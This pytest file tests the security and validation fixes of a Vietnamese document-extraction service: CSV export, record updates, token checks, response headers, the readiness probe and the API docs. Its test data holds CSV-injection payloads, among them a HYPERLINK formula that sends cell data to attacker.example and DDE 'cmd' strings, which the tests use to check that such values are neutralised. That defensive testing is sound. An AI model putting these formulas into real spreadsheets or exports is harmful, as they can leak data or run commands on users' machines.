"""Issue 10, security and correctness of the service: CSV injection, what a record PUT accepts, start-up
without a token, response headers, the public readiness probe, offline API docs, calendar text, the CSV's
deadline column, and Vietnamese validation messages."""

from __future__ import annotations

import base64
import copy
import csv
import datetime as dt
import hashlib
import io
import os
import re
import subprocess
import sys

import pytest
from fastapi.testclient import TestClient
from icalendar import Calendar
from pydantic import ValidationError
from svc_helpers import ROOT, SEED_TEXT, assert_problem, make_settings, put_record, upload, wait_done

from extractor.record import PlanRecord
from service import exports
from service.codes import ErrorCode
from service.settings import Settings

TOKEN = "s3cret-token-for-tests-0123456789"
# Words of pydantic's English messages; none may reach a clerk.
ENGLISH = re.compile(r"Value error|Input should|Field required|Extra inputs|is not a|valid |must be|got ")


def record(**sections) -> dict:
    out = PlanRecord().to_json()
    out["document"].update(kind="ke_hoach", number="12/KH-UBND", issue_date="2023-09-15")
    out.update(sections)
    return out


def done_document(client) -> str:
    doc_id = upload(client, SEED_TEXT).json()["id"]
    assert wait_done(client, doc_id)["status"] == "done"
    return doc_id


def put(client, doc_id: str, body, **kwargs):
    return put_record(client, doc_id, body, **kwargs)


def assert_nothing_stored(client, doc_id: str) -> None:
    versions = client.get(f"/v1/documents/{doc_id}/versions").json()["versions"]
    assert [v["kind"] for v in versions] == ["extracted"], versions


# ------------------------------------------------------------------------------------------ CSV injection

FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x",
            "-2+3", "=1+1", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_keeps_its_text(value):
    assert exports.spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Phòng Giáo dục và Đào tạo", "2023-10-15", "", "Sở Y tế = chủ trì", "'đã có"])
def test_an_ordinary_cell_is_left_alone(value):
    assert exports.spreadsheet_safe(value) == value


def test_assignments_csv_neutralises_formulas_in_every_column(client):
    doc_id = done_document(client)
    body = record(
        assignments=[{"agency": FORMULAS[0], "tasks": FORMULAS[1:5]}, {"agency": "Phòng Văn hóa", "tasks": ["-"]}],
        reporting=[{"deadline": "2023-10-15", "relation": "before", "reporters": FORMULAS[0], "recipient": None,
                    "email": None, "content": None}],
    )
    assert put(client, doc_id, body).status_code == 200
    rows = list(csv.reader(io.StringIO(client.get(f"/v1/documents/{doc_id}/assignments.csv").text.lstrip("\ufeff"))))
    assert rows[1:] == [["'" + FORMULAS[0], "'" + task, "2023-10-15"] for task in FORMULAS[1:5]] + [
        ["Phòng Văn hóa", "'-", ""]]


def test_a_stored_record_with_tab_or_carriage_return_formulas_is_neutralised_too():
    # Records stored before the model stripped values can still hold them.
    rows = list(csv.reader(io.StringIO(exports.assignments_csv(
        {"assignments": [{"agency": "\t=1+1", "tasks": ["\r@SUM(A1)"]}], "reporting": []}).decode("utf-8-sig"))))
    assert rows[1] == ["'\t=1+1", "'\r@SUM(A1)", ""]


# ------------------------------------------------------------------------------------------ the CSV's deadlines

SO_VAN_HOA = "Sở Văn hóa, Thể thao và Du lịch, Sở Văn hóa và Thể thao các tỉnh, thành phố trực thuộc Trung ương"


def _deadline(day: str, reporters: str | None) -> dict:
    return {"deadline": day, "relation": "before", "reporters": reporters, "recipient": None, "email": None,
            "content": None}


def test_a_deadline_goes_only_to_the_agency_its_reporters_name():
    rec = {"assignments": [
        {"agency": "Thư viện các tỉnh, thành phố trực thuộc Trung ương", "tasks": ["Tổ chức trưng bày sách"]},
        {"agency": "Sở Văn hóa, Thể thao và Du lịch", "tasks": ["Chỉ đạo thư viện"]},
        {"agency": "SỞ VĂN HÓA, THỂ THAO VÀ DU LỊCH,  Sở Văn hóa và Thể thao các tỉnh, thành phố trực thuộc "
                   "Trung ương.", "tasks": ["Báo cáo kết quả"]},
    ], "reporting": [_deadline("2024-05-20", SO_VAN_HOA)]}
    assert [row[2] for row in exports.assignments_rows(rec)] == ["", "", "2024-05-20"]


def test_a_deadline_without_reporters_is_attached_to_no_agency():
    rec = {"assignments": [{"agency": "Các trường Tiểu học", "tasks": ["Tổ chức hoạt động"]}],
           "reporting": [_deadline("2023-10-15", None)]}
    assert exports.assignments_rows(rec) == [("Các trường Tiểu học", "Tổ chức hoạt động", "")]


def test_every_deadline_linked_to_an_agency_is_listed_in_date_order():
    rec = {"assignments": [{"agency": "Các trường Tiểu học", "tasks": ["Báo cáo"]}],
           "reporting": [_deadline("2023-12-20", "các trường tiểu học"), _deadline("2023-10-15", "Các trường Tiểu học"),
                         _deadline("2023-11-01", "Các trường THCS")]}
    assert exports.assignments_rows(rec)[0][2] == "2023-10-15; 2023-12-20"


# ------------------------------------------------------------------------------------------ PUT …/record


@pytest.mark.parametrize("where, path", [
    (lambda r: r.__setitem__("bogus", 1), "/bogus"),
    (lambda r: r["document"].__setitem__("bogus", "x"), "/document/bogus"),
    (lambda r: r["document"].__setitem__("isue_date", "2023-09-15"), "/document/isue_date"),
    (lambda r: r["event"]["opening_ceremony"].__setitem__("note", "x"), "/event/opening_ceremony/note"),
    (lambda r: r.__setitem__("assignments", [{"agency": "A", "tasks": [], "priority": 1}]), "/assignments/0/priority"),
    (lambda r: r.__setitem__("reporting", [{**_deadline("2023-10-15", "A"), "cc": "B"}]), "/reporting/0/cc"),
])
def test_put_refuses_an_unknown_key_at_any_level_and_stores_nothing(client, where, path):
    doc_id = done_document(client)
    body = record()
    where(body)
    problem = assert_problem(put(client, doc_id, body), 422, ErrorCode.INVALID_RECORD)
    assert [(e["path"], e["type"]) for e in problem["errors"]] == [(path, "extra_forbidden")]
    assert problem["errors"][0]["message"] == "Trường này không có trong mẫu hồ sơ (kiểm tra lại tên trường)."
    assert_nothing_stored(client, doc_id)


@pytest.mark.parametrize("email", ["not-an-email", "vanthu@", "van thu@ubnd.gov.vn", "@ubnd.gov.vn"])
def test_put_refuses_a_malformed_email(client, email):
    doc_id = done_document(client)
    body = record(reporting=[{**_deadline("2023-10-15", "A"), "email": email}])
    problem = assert_problem(put(client, doc_id, body), 422, ErrorCode.INVALID_RECORD)
    assert [e["path"] for e in problem["errors"]] == ["/reporting/0/email"]
    assert "không phải là địa chỉ thư điện tử" in problem["errors"][0]["message"]
    assert_nothing_stored(client, doc_id)


@pytest.mark.parametrize("body", [{}, PlanRecord().to_json(), {"document": {"number": "   "}, "assignments": [
    {"agency": None, "tasks": []}], "warnings": ["chỉ có cảnh báo"]}])
def test_put_refuses_an_empty_record_unless_asked_to_allow_it(client, body):
    doc_id = done_document(client)
    problem = assert_problem(put(client, doc_id, body), 422, ErrorCode.EMPTY_RECORD)
    assert "allow_empty=true" in problem["detail"]
    assert_nothing_stored(client, doc_id)
    saved = put(client, doc_id, body, params={"allow_empty": "true"})
    assert saved.status_code == 200 and saved.json()["revision"] == 1


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data",
                                          "application/jsonp", None])
def test_put_refuses_a_body_that_is_not_application_json(client, content_type):
    doc_id = done_document(client)
    raw = PlanRecord.model_validate(record()).model_dump_json().encode()
    headers = {"content-type": content_type} if content_type else {}
    response = client.put(f"/v1/documents/{doc_id}/record", content=raw, headers=headers)
    problem = assert_problem(response, 415, ErrorCode.UNSUPPORTED_MEDIA_TYPE)
    assert "application/json" in problem["detail"]
    assert_nothing_stored(client, doc_id)


def test_put_accepts_application_json_with_a_charset(client):
    doc_id = done_document(client)
    raw = PlanRecord.model_validate(record()).model_dump_json().encode()
    response = client.put(f"/v1/documents/{doc_id}/record", content=raw,
                          headers={"content-type": "Application/JSON; charset=utf-8", "If-Match": '"rev-0"'})
    assert response.status_code == 200, response.text


def _padded(size: int) -> bytes:
    body = record(distribution=["x" * 1000] * (size // 1000 + 1))
    return PlanRecord.model_validate(body).model_dump_json().encode()


def test_put_refuses_a_body_over_the_limit_declared_or_streamed(make_client):
    client = make_client(max_record_mb=0.05)
    doc_id = done_document(client)
    raw = _padded(60 * 1024)
    declared = client.put(f"/v1/documents/{doc_id}/record", content=raw, headers={"content-type": "application/json"})
    problem = assert_problem(declared, 413, ErrorCode.RECORD_TOO_LARGE)
    assert problem["limit_bytes"] == int(0.05 * 1024 * 1024)

    def chunks():  # no Content-Length: counted as it streams in
        for start in range(0, len(raw), 8192):
            yield raw[start:start + 8192]

    streamed = client.put(f"/v1/documents/{doc_id}/record", content=chunks(), headers={"content-type": "application/json"})
    assert_problem(streamed, 413, ErrorCode.RECORD_TOO_LARGE)
    assert_nothing_stored(client, doc_id)
    small = client.put(f"/v1/documents/{doc_id}/record", content=_padded(20 * 1024),
                       headers={"content-type": "application/json", "If-Match": '"rev-0"'})
    assert small.status_code == 200, small.text


def test_the_default_record_limit_is_one_megabyte(client):
    doc_id = done_document(client)
    assert client.app.state.settings.max_record_bytes == 1024 * 1024
    too_big = client.put(f"/v1/documents/{doc_id}/record", content=_padded(1100 * 1024),
                         headers={"content-type": "application/json"})
    assert_problem(too_big, 413, ErrorCode.RECORD_TOO_LARGE)


# ------------------------------------------------------------------------------------------ Vietnamese messages


def test_record_errors_reach_the_clerk_in_vietnamese(client):
    doc_id = done_document(client)
    body = record()
    body["document"].update(issue_date="2024-02-31", kind="memo", number=12)
    body["event"]["opening_ceremony"]["time"] = "25:00"
    body["assignments"] = [{"agency": "A", "tasks": "một nhiệm vụ"}]
    body["event"]["start_date"] = "20/9/2021"
    problem = assert_problem(put(client, doc_id, body), 422, ErrorCode.INVALID_RECORD)
    messages = {e["path"]: e["message"] for e in problem["errors"]}
    assert messages == {
        "/document/issue_date": "'2024-02-31' không phải là một ngày có thật.",
        "/document/kind": "Phải là một trong các giá trị: 'cong_van', 'ke_hoach', 'quyet_dinh', 'thong_bao', "
                          "'bao_cao', 'chi_thi', 'huong_dan', 'to_trinh', 'khac'.",
        "/document/number": "Phải là một chuỗi ký tự.",
        "/event/start_date": "Ngày phải viết theo dạng YYYY-MM-DD (năm-tháng-ngày), không phải '20/9/2021'.",
        "/event/opening_ceremony/time": "Giờ phải viết theo dạng HH:MM, 24 giờ (00:00–23:59), không phải '25:00'.",
        "/assignments/0/tasks": "Phải là một danh sách.",
    }
    assert problem["detail"].startswith("Hồ sơ chưa hợp lệ: 6 lỗi")
    assert not ENGLISH.search(str(problem)), problem


@pytest.mark.parametrize("request_args, path, message", [
    (("GET", "/v1/documents?limit=1000"), "/limit", "Phải nhỏ hơn hoặc bằng 100."),
    (("GET", "/v1/documents?limit=abc"), "/limit", "Phải là một số nguyên."),
    (("GET", "/v1/documents?kind=memo"), "/kind", "Phải là một trong các giá trị"),
    (("GET", "/v1/documents?reviewed=maybe"), "/reviewed", "Phải là true hoặc false."),
    (("GET", "/v1/documents?q=" + "x" * 300), "/q", "Dài quá 200 ký tự."),
    (("POST", "/v1/documents"), "/file", "Thiếu giá trị bắt buộc."),
])
def test_request_errors_reach_the_clerk_in_vietnamese(client, request_args, path, message):
    problem = assert_problem(client.request(*request_args), 422, ErrorCode.VALIDATION_FAILED)
    assert problem["errors"][0]["path"] == path and problem["errors"][0]["message"].startswith(message)
    assert problem["detail"].startswith("Yêu cầu không hợp lệ (")
    assert not ENGLISH.search(str(problem)), problem


@pytest.mark.parametrize("value", ["hôm qua", "9/2021", "2021-02-30"])
def test_a_date_filter_it_cannot_read_is_explained_in_vietnamese(client, value):
    problem = assert_problem(client.get("/v1/documents", params={"issued_from": value}), 422, ErrorCode.INVALID_DATE)
    assert problem["detail"].startswith(f"issued_from={value!r} không phải là một ngày")
    assert problem["errors"] == [{"path": "/issued_from", "location": "query", "type": "invalid_date",
                                  "message": "Không phải là một ngày đủ ngày, tháng, năm."}]
    assert not re.search(r"is not|write|or 'ngày", problem["detail"]), problem


def test_a_body_that_is_not_json_is_explained_in_vietnamese(client):
    doc_id = done_document(client)
    response = client.put(f"/v1/documents/{doc_id}/record", content=b'{"document": ',
                          headers={"content-type": "application/json"})
    problem = assert_problem(response, 422, ErrorCode.INVALID_RECORD)
    assert "không phải JSON hợp lệ (dòng 1, cột 14)" in problem["detail"]


# ------------------------------------------------------------------------------------------ calendar text


def test_calendar_escapes_line_breaks_in_every_text_value():
    # A record stored before the model collapsed white space can hold line breaks anywhere.
    rec = {
        "document": {"number": "12/KH-\nUBND", "issue_date": "2023-09-15", "subject": "Tổ chức\r\nTuần lễ"},
        "issuer": {"name": "ỦY BAN NHÂN DÂN\nHUYỆN THANH BÌNH"},
        "event": {"name": "Tuần lễ hưởng ứng\nhọc tập suốt đời", "theme": "Học tập\rsuốt đời",
                  "start_date": "2023-10-02", "end_date": "2023-10-08",
                  "opening_ceremony": {"date": "2023-10-02", "time": "14:00", "venue": "Hội trường\nUBND huyện",
                                       "mode": "in_person"}},
        "reporting": [{"deadline": "2023-10-15", "relation": "before", "reporters": "Các trường\nTiểu học",
                       "recipient": "Phòng\nGD", "email": "vanthu@ubnd.gov.vn", "content": "báo cáo\nkết quả"}],
    }
    body = exports.calendar_ics("abc", rec, dt.datetime(2023, 9, 16, tzinfo=dt.UTC))
    lines = body.split(b"\r\n")
    assert not any(b"\n" in line or b"\r" in line for line in lines)
    assert all(len(line) <= 75 for line in lines)
    calendar = Calendar.from_ical(body)
    assert str(calendar["x-wr-calname"]) == "Tuần lễ hưởng ứng học tập suốt đời"
    opening = next(e for e in calendar.walk("VEVENT") if "opening" in str(e["uid"]))
    assert str(opening["location"]) == "Hội trường\nUBND huyện"
    report = next(e for e in calendar.walk("VEVENT") if "report" in str(e["uid"]))
    assert "Đơn vị báo cáo: Các trường\nTiểu học" in str(report["description"])


def test_a_record_saved_with_line_breaks_is_stored_on_one_line_and_exports_to_calendar(client):
    doc_id = done_document(client)
    body = record()
    body["event"].update(name="Tuần lễ hưởng ứng\nhọc tập  suốt đời", start_date="2023-10-02", end_date="2023-10-08")
    body["event"]["opening_ceremony"].update(date="2023-10-02", venue="Hội trường\r\nUBND huyện")
    saved = put(client, doc_id, body)
    assert saved.status_code == 200, saved.text
    assert saved.json()["record"]["event"]["name"] == "Tuần lễ hưởng ứng học tập suốt đời"
    response = client.get(f"/v1/documents/{doc_id}/calendar.ics")
    assert response.status_code == 200, response.text
    calendar = Calendar.from_ical(response.content)
    assert str(calendar["x-wr-calname"]) == "Tuần lễ hưởng ứng học tập suốt đời"


# ------------------------------------------------------------------------------------------ start-up without a token


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.20", "10.0.0.5", "docintel.phong-gd.local"])
def test_a_network_address_without_a_token_is_refused(tmp_path, host):
    with pytest.raises(ValidationError) as info:
        make_settings(tmp_path, host=host)
    message = str(info.value)
    assert f"HOST={host}" in message and "API_TOKEN" in message and "ALLOW_NO_TOKEN_ON_NETWORK=1" in message


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.2", "localhost", "::1"])
def test_loopback_needs_no_token(tmp_path, host):
    assert make_settings(tmp_path, host=host).api_token is None


def test_a_network_address_is_served_with_a_token_or_the_explicit_opt_out(tmp_path):
    assert make_settings(tmp_path, host="0.0.0.0", api_token=TOKEN).api_token.get_secret_value() == TOKEN
    assert make_settings(tmp_path, host="0.0.0.0", allow_no_token_on_network=True).api_token is None


@pytest.mark.parametrize("token", ["", " " * 20, "\t\n" * 10])
def test_a_blank_token_is_refused(tmp_path, token):
    with pytest.raises(ValidationError, match="để trống"):
        make_settings(tmp_path, api_token=token)


def test_the_length_of_a_token_is_counted_without_surrounding_spaces(tmp_path):
    with pytest.raises(ValidationError, match="ít nhất 16 ký tự"):
        make_settings(tmp_path, api_token="   short-token   ")
    assert make_settings(tmp_path, api_token=f"  {TOKEN}\n").api_token.get_secret_value() == TOKEN


def test_the_server_does_not_start_exposed_and_says_why(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("DOCINTEL_")}
    env.update(HOST="0.0.0.0", DATA_DIR=str(tmp_path / "data"), PORT="0")
    result = subprocess.run([sys.executable, "-m", "service"], env=env, cwd=ROOT, capture_output=True, text=True,
                            timeout=60)
    assert result.returncode == 2, result.stderr
    assert "HOST=0.0.0.0" in result.stderr and "ALLOW_NO_TOKEN_ON_NETWORK=1" in result.stderr
    assert "Traceback" not in result.stderr and "Value error" not in result.stderr
    assert not (tmp_path / "data").exists()


# ------------------------------------------------------------------------------------------ headers


@pytest.fixture
def token_client(make_client):
    return make_client(api_token=TOKEN)


def test_every_kind_of_response_says_nosniff(image_client):
    client = image_client
    doc_id = upload(client, SEED_TEXT).json()["id"]
    assert wait_done(client, doc_id)["status"] == "done"
    put(client, doc_id, record(event={**PlanRecord().to_json()["event"], "start_date": "2023-10-02"},
                               assignments=[{"agency": "A", "tasks": ["B"]}]))
    base = f"/v1/documents/{doc_id}"
    kinds = {
        "/healthz": "application/json", "/readyz": "application/json", "/openapi.json": "application/json",
        base: "application/json", f"{base}/record.json": "application/json",
        f"{base}/pages/1.png": "image/png", f"{base}/assignments.csv": "text/csv",
        f"{base}/calendar.ics": "text/calendar", "/v1/documents/unknown": "application/problem+json",
        "/docs": "text/html", "/redoc": "text/html", "/docs-assets/swagger-ui.css": "text/css",
        "/docs-assets/redoc.standalone.js": "text/javascript", "/": "text/html", "/static/app.css": "text/css",
    }
    for url, media_type in kinds.items():
        response = client.get(url)
        assert response.headers["content-type"].startswith(media_type), (url, response.headers)
        assert response.headers.get("x-content-type-options") == "nosniff", url
    too_large = client.put(f"{base}/record", content=b"x" * (1024 * 1024 + 1),
                           headers={"content-type": "application/json"})
    assert too_large.status_code == 413 and too_large.headers["x-content-type-options"] == "nosniff"


def test_a_500_says_nosniff_too(client, monkeypatch):
    from service import documents

    def boom(*args, **kwargs):
        raise RuntimeError("secret")

    monkeypatch.setattr(documents, "list_documents", boom)
    with TestClient(client.app, raise_server_exceptions=False) as quiet:
        response = quiet.get("/v1/documents")
    assert response.status_code == 500 and response.headers["x-content-type-options"] == "nosniff"


def _inline_script_hashes(html: str) -> set[str]:
    return {"'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'"
            for s in re.findall(r"<script>(.*?)</script>", html, re.DOTALL)}


@pytest.mark.parametrize("url", ["/docs", "/redoc"])
def test_api_docs_pages_carry_a_same_origin_content_security_policy(client, url):
    response = client.get(url)
    assert response.status_code == 200
    policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'self'" and policy["object-src"] == "'none'"
    assert policy["frame-ancestors"] == "'none'"
    assert not re.search(r"https?:|\*", response.headers["content-security-policy"])
    script_sources = set(policy["script-src"].split())
    assert "'unsafe-inline'" not in script_sources and "'unsafe-eval'" not in script_sources
    assert script_sources == {"'self'"} | _inline_script_hashes(response.text)


# ------------------------------------------------------------------------------------------ /readyz


@pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer wrong-token-wrong-token"},
                                     {"Authorization": TOKEN}])
def test_readyz_without_the_token_answers_the_status_alone(token_client, headers):
    response = token_client.get("/readyz", headers=headers)
    assert response.status_code == 200 and response.json() == {"status": "ready"}


def test_readyz_with_the_token_answers_the_checks(token_client):
    body = token_client.get("/readyz", headers={"Authorization": f"Bearer {TOKEN}"}).json()
    assert body["status"] == "ready" and set(body["checks"]) == {"tesseract", "storage", "database", "workers"}
    assert body["checks"]["tesseract"]["binary"]


def test_readyz_not_ready_tells_the_reasons_only_with_the_token(token_client, monkeypatch):
    def broken() -> None:
        raise PermissionError(13, "Permission denied", "/srv/docintel/data")

    monkeypatch.setattr(token_client.app.state.services.storage, "check_writable", broken)
    bare = assert_problem(token_client.get("/readyz"), 503, ErrorCode.SERVICE_UNAVAILABLE)
    assert "checks" not in bare and "storage" not in bare["detail"]
    assert "tesseract" not in token_client.get("/readyz").text
    full = assert_problem(token_client.get("/readyz", headers={"Authorization": f"Bearer {TOKEN}"}), 503,
                          ErrorCode.SERVICE_UNAVAILABLE)
    assert full["checks"]["storage"]["ok"] is False and "storage" in full["detail"]


# ------------------------------------------------------------------------------------------ offline API docs


@pytest.mark.parametrize("url", ["/docs", "/redoc"])
def test_api_docs_load_nothing_from_another_host(client, url):
    html = client.get(url).text
    assert not re.search(r"https?://|//[a-z0-9.-]+\.[a-z]{2,}/", html, re.IGNORECASE), html
    assert "fonts.googleapis" not in html
    assets = re.findall(r"""(?:src|href|spec-url)=["']([^"']+)["']""", html)
    assert assets, html
    for asset in assets:
        response = client.get(asset)
        assert response.status_code == 200 and response.content, asset
    assert re.search(r"url: '/openapi.json'|spec-url=\"/openapi.json\"", html)


def test_the_swagger_page_turns_the_online_validator_off(client):
    assert '"validatorUrl": null' in client.get("/docs").text


def test_api_docs_pages_follow_a_path_prefix(tmp_path):
    from service.app import create_app

    with TestClient(create_app(make_settings(tmp_path)), root_path="/docintel") as client:
        html = client.get("/docs").text
    assert "/docintel/docs-assets/swagger-ui-bundle.js" in html and "/docintel/openapi.json" in html


# ------------------------------------------------------------------------------------------ nothing else changed


def test_settings_keep_refusing_unknown_keywords(tmp_path):
    with pytest.raises(ValidationError):
        Settings(data_dir=tmp_path, allow_no_token=True)


def test_a_valid_record_still_round_trips(client):
    doc_id = done_document(client)
    body = record(assignments=[{"agency": "Các trường Tiểu học", "tasks": ["Tổ chức"]}])
    saved = put(client, doc_id, copy.deepcopy(body))
    assert saved.status_code == 200, saved.text
    assert client.get(f"/v1/documents/{doc_id}/record").json() == PlanRecord.model_validate(body).to_json()


def test_a_revision_stored_with_unknown_keys_before_they_were_refused_still_reads(client):
    from service.models import VERSION_REVIEWED, RecordVersion

    doc_id = done_document(client)
    legacy = record()
    legacy["document"]["bogus"] = "lưu từ trước"
    legacy["top_level_typo"] = 1
    with client.app.state.services.db.write() as session:
        session.add(RecordVersion(document_id=doc_id, kind=VERSION_REVIEWED, revision=1, record=legacy, evidence=None,
                                  reviewer=None))
    status = client.get(f"/v1/documents/{doc_id}")
    assert status.status_code == 200, status.text
    assert "bogus" not in status.json()["record"]["document"] and "top_level_typo" not in status.json()["record"]
    assert client.get(f"/v1/documents/{doc_id}/record").json() == legacy  # the stored revision is untouched
